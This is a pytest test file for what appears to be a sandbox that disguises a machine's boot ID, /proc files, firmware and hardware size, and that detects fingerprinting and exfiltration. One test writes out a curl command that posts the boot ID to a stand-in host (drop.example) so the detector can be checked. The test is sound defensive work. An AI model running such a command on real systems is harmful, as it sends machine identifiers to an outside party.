# SPDX-License-Identifier: Apache-2.0
"""What the kernel would say of the real machine, and what a box is shown in its place."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from fpbox.machine import BUILT_IN, Machine
from fpbox.machine.hardware import BOOT_ID, DMI
from fpbox.machine.size import SIZES
from local_packages import Npm, npm_project

if TYPE_CHECKING:
    from conftest import Fpbox
else:
    Fpbox = Any

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("nothing_left")]
SEED = "disguise"
SHOW = 'for path in "$@"; do echo "== $path"; cat "$path" 2>&1; done'


def shown(fpbox: Fpbox, paths: tuple[str, ...], *options: str) -> dict[str, str]:
    """Return what a box shows of these files."""
    done = fpbox.run("--seed", SEED, "--fail-on", "none", *options, "sh", "-c", SHOW, "sh", *paths)
    parts = done.stdout.decode().split("== ")[1:]
    return dict(part.split("\n", 1) for part in parts)


def machine(persona: str = "developer") -> Machine:
    return Machine.make(SEED, BUILT_IN[persona], 1_790_000_000, "")


def test_the_boot_id_is_never_the_real_one(fpbox: Fpbox) -> None:
    text = shown(fpbox, (BOOT_ID, "/proc/self/cgroup"))
    assert text[BOOT_ID] == f"{machine().who.boot_id}\n"
    assert text[BOOT_ID] != Path(BOOT_ID).read_text("ascii")
    assert text["/proc/self/cgroup"] != machine().hardware.files["/proc/[pid]/cgroup"]
    assert fpbox.report["run"]["disguise"] is False
    (note,) = [one for one in fpbox.report["coverage"]["notes"] if "not the kernel's" in one]
    assert note.endswith(f": {BOOT_ID}")


def test_without_a_machine_everything_is_real(fpbox: Fpbox) -> None:
    assert shown(fpbox, (BOOT_ID,), "--no-machine")[BOOT_ID] == Path(BOOT_ID).read_text("ascii")


@pytest.mark.parametrize("persona", ["developer", "ci", "server"])
def test_a_disguise_shows_the_personas_hardware(fpbox: Fpbox, persona: str) -> None:
    paths = ("/proc/self/cgroup", "/proc/1/cgroup", "/proc/mounts", "/proc/self/mountinfo", "/proc/cmdline")
    text = shown(fpbox, (*paths, "/proc/cpuinfo"), "--persona", persona, "--disguise")
    files = machine(persona).hardware.files
    expected = ("/proc/[pid]/cgroup", "/proc/1/cgroup", "/proc/[pid]/mounts", "/proc/[pid]/mountinfo")
    assert [text[path] for path in paths] == [*(files[path] for path in expected), files["/proc/cmdline"]]
    names = {value for _, key, value in machine(persona).hardware.processor if key == "model name"}
    real = Path("/proc/cpuinfo").read_text("ascii")
    if "vendor_id" in real:
        assert any(f"model name\t: {name}\n" in text["/proc/cpuinfo"] for name in names)
        assert text["/proc/cpuinfo"].count("processor\t:") == real.count("processor\t:")
    assert fpbox.report["run"]["disguise"] is True
    (note,) = [one for one in fpbox.report["coverage"]["notes"] if "not the kernel's" in one]
    assert "/proc/self/mountinfo" in note
    assert fpbox.report["verdict"] == "clean"


def test_a_disguise_shows_the_firmware_where_there_is_one(fpbox: Fpbox) -> None:
    if not Path(DMI, "sys_vendor").exists():
        pytest.skip("this machine has no firmware that names its maker")
    paths = (f"{DMI}/sys_vendor", "/sys/class/dmi/id/product_name")
    text = shown(fpbox, paths, "--disguise")
    files = machine().hardware.files
    assert [text[path] for path in paths] == [files[f"{DMI}/sys_vendor"], files[f"{DMI}/product_name"]]


def test_a_disguise_without_a_machine_is_refused(fpbox: Fpbox) -> None:
    done = fpbox.run("--no-machine", "--disguise", "true")
    assert done.returncode == 2
    assert b"--no-machine" in done.stderr


def test_a_boot_id_that_is_sent_is_a_theft(fpbox: Fpbox) -> None:
    script = f"curl -s -d @{BOOT_ID} http://drop.example/x"
    fpbox("run", "--no-project", "--linger", "1", "--fail-on", "none", "-o", f"json={fpbox.report_file}",
          "sh", "-c", script)  # fmt: skip
    found = [f for package in fpbox.report["packages"] for f in package["findings"]]
    (theft,) = [one for one in found if one["recipe"] == "identity_exfiltrated"]
    assert "boot_id" in str(theft["evidence"])


def test_an_install_in_disguise_goes_as_ever(fpbox: Fpbox) -> None:
    folder = npm_project(fpbox.folder, {"dep": Npm("df -h / && nproc && node -p 1")})
    done = fpbox("run", "--disguise", "--network", "none", "--linger", "1", "-o", f"json={fpbox.report_file}",
                 "npm", "install", "--offline", "--foreground-scripts", cwd=folder)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert b"/dev/nvme0n1p2" in done.stdout
    assert fpbox.report["coverage"]["complete"] is True


ASK = """
os = require('os')
console.log(JSON.stringify([os.cpus().length, os.totalmem(), os.uptime(), os.availableParallelism()]))
"""


@pytest.mark.parametrize("name", ["large", "small"])
def test_a_size_is_what_programs_find(fpbox: Fpbox, name: str) -> None:
    script = (
        f'echo "{ASK}" | node; nproc; free -k | head -2; cut -d. -f1 /proc/uptime; getconf _NPROCESSORS_ONLN'
    )
    options = ("--persona", f"developer+size={name}", "--fail-on", "none")
    done = fpbox.run(*options, "sh", "-c", script)
    node, nproc, _, free, uptime, online = done.stdout.decode().splitlines()
    size = SIZES[name]
    processors, memory, up, parallel = json.loads(node)
    assert (processors, parallel) == (size.processors, size.processors)
    assert memory == size.memory_kb << 10
    assert int(up) == int(uptime) == size.uptime_s
    assert (int(nproc), int(online)) == (size.processors, size.processors)
    assert int(free.split()[1]) == size.memory_kb
    assert any(name in note and "GiB" in note for note in fpbox.report["coverage"]["notes"])
    shown = {one["recipe"] for package in fpbox.report["packages"] for one in package["findings"]}
    assert {"cpu_fingerprint", "memory_fingerprint"} <= shown
